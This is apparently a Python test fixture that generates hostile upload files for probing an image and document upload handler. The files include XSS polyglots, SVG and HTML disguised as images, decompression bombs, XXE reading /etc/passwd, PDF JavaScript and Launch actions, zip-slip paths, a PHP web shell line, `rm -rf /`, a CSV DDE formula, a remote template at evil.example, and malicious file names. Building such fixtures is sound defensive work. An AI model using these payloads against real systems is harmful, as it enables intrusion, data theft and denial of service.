"""Files that attack whoever takes them in: each is made here, none is kept.

`hostile_files()` gives every one with the name under which it is uploaded, and whether an
image or a document is asked for.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Literal

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
JS = b"alert(document.domain);//"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
EXE = b"MZ\x90\x00" + bytes(200) + b"PE\x00\x00"
WASM = b"\x00asm\x01\x00\x00\x00"
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<x>&e;</x>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>'
)


@dataclass(frozen=True)
class Hostile:
    """`what` it is, the `name` it comes under, its bytes, where it is uploaded."""

    what: str
    name: str
    content: bytes
    place: Literal["image", "document"]


def picture(form: str = "PNG", size: tuple[int, int] = (24, 16), **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 60)).save(buffer, form, **options)
    return buffer.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    check = zlib.crc32(kind + body)
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", check)


def png_with(*chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG with these chunks behind its header."""
    plain = picture()
    extra = b"".join(png_chunk(kind, body) for kind, body in chunks)
    return plain[:33] + extra + plain[33:]


def png_bomb(side: int = 50_000) -> bytes:
    """A picture of `side` by `side` zeros: gigabytes from kilobytes."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = bytes(1 + side // 8)
    packer = zlib.compressobj(9)
    packed = packer.compress(row * 1000) * 1 + packer.flush()
    parts = [(b"IHDR", header), (b"IDAT", packed), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*part) for part in parts)


def gif_with_frames(number: int) -> bytes:
    plain = picture("GIF", (200, 200))
    at = plain.index(b"\x2c")
    return plain[:at] + plain[at:-1] * number + plain[-1:]


def jpeg_with_scans(number: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    plain = picture("JPEG", (1600, 1600), progressive=True)
    at = plain.rindex(b"\xff\xda")
    return plain[:at] + plain[at:-2] * number + plain[-2:]


def archive(parts: dict[str, bytes], **options) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, **options) as made:
        for name, body in parts.items():
            made.writestr(name, body)
    return buffer.getvalue()


def docx(**extra: bytes) -> bytes:
    return archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document>Text</w:document>",
            **{name.replace("__", "/"): body for name, body in extra.items()},
        }
    )


def xlsx(**extra: bytes) -> bytes:
    return archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            **{name.replace("__", "/"): body for name, body in extra.items()},
        }
    )


def with_parts(kind: str, parts: dict[str, bytes]) -> bytes:
    """An OpenDocument text or an EPUB with these parts."""
    media_type = {
        "odt": b"application/vnd.oasis.opendocument.text",
        "epub": b"application/epub+zip",
    }[kind]
    return archive({"mimetype": media_type, **parts})


def locked(content: bytes) -> bytes:
    """The archive with every part marked as encrypted."""
    marked = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(mark)
        while at >= 0:
            marked[at + offset] |= 1
            at = marked.find(mark, at + 4)
    return bytes(marked)


def lying(content: bytes, size: int = 100) -> bytes:
    """The archive whose largest part says that it has `size` bytes unpacked."""
    with zipfile.ZipFile(io.BytesIO(content)) as known:
        largest = max(part.file_size for part in known.infolist())
    told = struct.pack("<I", largest)
    return content.replace(told, struct.pack("<I", size))


def pdf_with(objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + objects + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def packed_object(body: bytes) -> bytes:
    return (
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"
        + zlib.compress(b"6 0 " + body)
        + b"\nendstream endobj"
    )


def hostile_files() -> Iterator[Hostile]:
    for what, name, content in _images():
        yield Hostile(what, name, content, "image")
    for what, name, content in _documents():
        yield Hostile(what, name, content, "document")


def _images() -> Iterator[tuple[str, str, bytes]]:
    png, jpeg, gif = picture(), picture("JPEG"), picture("GIF")
    inner_zip = archive({"evil.class": JS})
    # Two things at once
    yield "GIF that is JavaScript", "a.gif", b"GIF89a/*" + gif[8:] + b"*/=1;" + JS
    yield "GIF with a script behind", "b.gif", gif + SCRIPT
    yield "GIF with an archive behind (GIFAR)", "c.gif", gif + inner_zip
    yield "JPEG with an archive behind", "d.jpg", jpeg + inner_zip
    yield "JPEG with HTML behind", "e.jpg", jpeg + HTML
    yield "PNG with HTML behind", "f.png", png + HTML
    yield "PNG with PHP in a text", "g.png", png_with((b"tEXt", b"C\0<?php x();?>"))
    yield "PNG with a script in a text", "h.png", png_with((b"tEXt", b"C\0" + SCRIPT))
    packed = b"C\0\0" + zlib.compress(SCRIPT)
    yield "PNG with a packed script", "i.png", png_with((b"zTXt", packed))
    yield (
        "PNG with a script in XMP",
        "j.png",
        png_with((b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SVG)),
    )
    yield "PNG with an unknown chunk", "k.png", png_with((b"evIl", SCRIPT))
    yield "JPEG with a script as comment", "l.jpg", picture("JPEG", comment=SCRIPT)
    yield "WebP with a script in XMP", "m.webp", picture("WEBP", xmp=SVG)
    yield "PDF and picture", "n.png", PDF + png
    # Too much
    yield "PNG of 50,000 by 50,000", "bomb.png", png_bomb()
    yield "PNG of 13,000 by 1", "long.png", picture(size=(13_000, 1))
    yield "PNG of 5,000 by 5,000", "most.png", picture(size=(5000, 5000))
    yield "GIF with 10,000 frames", "frames.gif", gif_with_frames(10_000)
    yield "JPEG with 2,000 scans", "scans.jpg", jpeg_with_scans(2000)
    text_bomb = b"C\0\0" + zlib.compress(bytes(50_000_000), 9)
    yield "PNG with a text bomb", "text.png", png_with((b"zTXt", text_bomb))
    profile = b"p\0\0" + zlib.compress(bytes(50_000_000), 9)
    yield "PNG with a profile bomb", "icc.png", png_with((b"iCCP", profile))
    yield (
        "PNG with a long chunk length",
        "len.png",
        png[:33] + b"\x7f\xff\xff\xff" + png,
    )
    yield "more bytes than allowed", "fat.png", png + bytes(10 * 1024 * 1024)
    webp_head = b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xff\xff\xff\xff" + bytes(20)
    yield "WebP that says 16,384 by 16,384", "w.webp", webp_head
    # Active under another name
    yield "SVG", "drawing.svg", SVG
    yield "SVG called PNG", "drawing.png", SVG
    yield "SVG called JPEG", "drawing.jpg", SVG
    yield "SVG in UTF-16", "utf16.png", SVG.decode().encode("utf-16")
    yield "SVG with XXE", "xxe.png", XXE.replace(b"<x>", SVG)
    yield "SVG packed", "drawing.svgz.png", zlib.compress(SVG)
    yield "HTML called PNG", "page.png", HTML
    yield "HTML in UTF-7", "utf7.gif", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "JavaScript", "code.jpg", JS
    yield "PDF called JPEG", "paper.jpg", PDF
    yield "TIFF called JPEG", "tiff.jpg", picture("TIFF")
    yield "TIFF", "scan.tif", picture("TIFF")
    yield "BMP called PNG", "bmp.png", picture("BMP")
    yield "ICO called PNG", "icon.png", picture("ICO")
    yield "PSD called PNG", "psd.png", b"8BPS\0\1" + bytes(60)
    yield "EPS called JPEG", "eps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run\nshowpage"
    yield "WMF called PNG", "wmf.png", b"\xd7\xcd\xc6\x9a" + bytes(60)
    yield "programme called JPEG", "elf.jpg", ELF
    yield "empty picture", "empty.png", b""
    yield "cut off PNG", "cut.png", picture(size=(500, 500))[:200]
    yield "cut off JPEG", "cut.jpg", picture("JPEG", (500, 500))[:700]
    yield "only a header", "head.png", png[:33]
    yield "PNG called JPEG", "other.jpg", png
    # Names
    for name in (
        "../../../etc/cron.d/evil.png",
        "..\\..\\evil.png",
        "evil\x00.php.png",
        "harmless\u202egnp.exe.png",
        "n" * 300 + ".png",
        "CON.png",
        "shell.php.png",
        "shell.png.php",
        "<img src=x onerror=alert(1)>.png",
        "'; DROP TABLE images;--.png",
        ".htaccess",
        ".png",
    ):
        yield f"name {name[:40]!r}", name, png


def _documents() -> Iterator[tuple[str, str, bytes]]:
    inner = archive({"a.txt": b"x"})
    epub_page = b'<?xml version="1.0"?><html><body>Text</body></html>'
    # Two things at once
    yield "HTML before the PDF", "a.pdf", HTML + PDF
    yield "HTML in the head of a PDF", "b.pdf", b"%PDF-1.4\n" + HTML + PDF
    yield "PDF with HTML behind", "c.pdf", PDF + HTML
    yield "PDF with an archive behind", "d.pdf", PDF + inner
    yield "PDF behind other bytes", "e.pdf", b"GIF89a" + PDF
    yield "archive behind other bytes", "f.docx", b"MZ" + bytes(50) + docx()
    yield "DOCX with HTML behind", "g.docx", docx() + HTML
    # PDF that acts
    yield (
        "PDF with a script",
        "js.pdf",
        pdf_with(b"1 0 obj<</S/JavaScript/JS(x)>>endobj"),
    )
    yield (
        "PDF with a hidden script",
        "js2.pdf",
        pdf_with(b"1 0 obj<</S/J#61va#53cript/#4aS(x)>>endobj"),
    )
    yield (
        "PDF with a packed script",
        "js3.pdf",
        pdf_with(packed_object(b"<</S/JavaScript/JS(x)>>")),
    )
    yield (
        "PDF that starts a programme",
        "go.pdf",
        pdf_with(b"1 0 obj<</S/Launch>>endobj"),
    )
    yield "PDF with a file inside", "in.pdf", pdf_with(b"1 0 obj<</EmbeddedFile 2>>")
    yield "PDF with an XFA form", "xfa.pdf", pdf_with(b"1 0 obj<</XFA 2 0 R>>endobj")
    yield (
        "PDF with a bomb of objects",
        "ob.pdf",
        pdf_with(packed_object(bytes(60_000_000))),
    )
    yield "cut off PDF", "cut.pdf", PDF[:20]
    yield "only the mark of a PDF", "mark.pdf", b"%PDF-"
    # Archives
    bomb = docx(word__media=bytes(90_000_000))
    yield "zip bomb", "bomb.docx", bomb
    yield "zip bomb that lies", "lie.docx", lying(bomb)
    yield "many parts", "many.xlsx", xlsx(**{f"p{n}": b"" for n in range(6000)})
    yield "archive in an archive", "nest.docx", docx(word__inner=inner)
    yield (
        "archive in an archive in one",
        "nest.xlsx",
        xlsx(xl__embeddings__a=archive({"b.zip": inner})),
    )
    yield "ZIP called DOCX", "zip.docx", inner
    yield "JAR called ODT", "jar.odt", archive({"META-INF/MANIFEST.MF": b"x"})
    yield "with a password", "locked.docx", locked(docx())
    yield "cut off DOCX", "cut.docx", docx()[:-30]
    twice = archive({"mimetype": b"application/epub+zip", "a/../../x": b"x"})
    yield "way out of the archive", "slip.epub", twice
    yield "XXE in DOCX", "xxe.docx", docx(word__styles=XXE)
    yield "XXE in XLSX", "xxe.xlsx", xlsx(xl__sheet=XXE)
    yield "XXE in ODT", "xxe.odt", with_parts("odt", {"content.xml": XXE})
    yield "XXE in UTF-16", "xxe16.docx", docx(a=XXE.decode().encode("utf-16"))
    yield (
        "XXE in UTF-7",
        "xxe7.docx",
        docx(a=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-ENTITY'),
    )
    yield "XXE in EPUB", "xxe.epub", with_parts("epub", {"a.xhtml": XXE})
    yield "billion laughs", "laughs.docx", docx(word__styles=LAUGHS)
    yield "macro in DOCX", "macro.docx", docx(**{"word__vbaProject.bin": b"x"})
    yield "macro in XLSX", "macro.xlsx", xlsx(**{"xl__vbaProject.bin": b"x"})
    yield (
        "DOCM called DOCX",
        "docm.docx",
        docx(a=b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'),
    )
    yield "XLSM", "book.xlsm", xlsx(**{"xl__vbaProject.bin": b"x"})
    yield "macro in ODT", "macro.odt", with_parts("odt", {"Basic/a/b.xml": b"x"})
    yield "OLE object", "ole.docx", docx(**{"word__embeddings__oleObject1.bin": b"x"})
    yield (
        "template from elsewhere",
        "tpl.docx",
        docx(
            **{
                "word___rels__settings.xml.rels": b'<Relationship Type="a/attachedTemplate"'
                b' Target="http://evil.example/x.dotm" TargetMode="External"/>'
            }
        ),
    )
    yield "DDE field", "dde.docx", docx(a=b"<w:instrText>DDEAUTO cmd</w:instrText>")
    yield (
        "script in EPUB",
        "js.epub",
        with_parts("epub", {"a.xhtml": epub_page.replace(b"Text", SCRIPT)}),
    )
    yield (
        "handler in EPUB",
        "on.epub",
        with_parts("epub", {"a.xhtml": b'<html><body onload="x()"/></html>'}),
    )
    yield "programme in DOCX", "exe.docx", docx(word__media=EXE)
    # Text that is none
    yield "HTML called TXT", "page.txt", HTML
    yield "HTML after much text", "late.txt", b"word " * 9000 + SCRIPT
    yield "UTF-7", "utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "UTF-16", "utf16.txt", HTML.decode().encode("utf-16")
    yield "MHTML", "page.mhtml.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\nx"
    yield "shell script", "run.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "PHP called CSV", "shell.csv", b"<?php system($_GET[0]); ?>"
    yield "CSV with a formula", "sum.csv", b"name,sum\nA,=cmd|'/C calc'!A0\n"
    yield "NUL in text", "nul.txt", b"a\0b"
    yield "programme called TXT", "elf.txt", ELF
    yield "EXE called PDF", "exe.pdf", EXE
    yield "WebAssembly called CSV", "w.csv", WASM
    yield "SVG called TXT", "svg.txt", SVG
    yield (
        "old Word called DOCX",
        "old.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99),
    )
    yield "RTF called DOCX", "rtf.docx", rb"{\rtf1{\object\objdata 0}}"
    yield "PDF called DOCX", "pdf.docx", PDF
    yield "DOCX called PDF", "docx.pdf", docx()
    yield "DOCX called XLSX", "docx.xlsx", docx()
    yield "HTML", "page.html", HTML
    yield "empty document", "empty.pdf", b""
    for name in (
        "../../evil.pdf",
        "shell.php.pdf",
        "report\u202efdp.exe",
        "n" * 300 + ".pdf",
    ):
        yield f"document name {name[:40]!r}", name, PDF
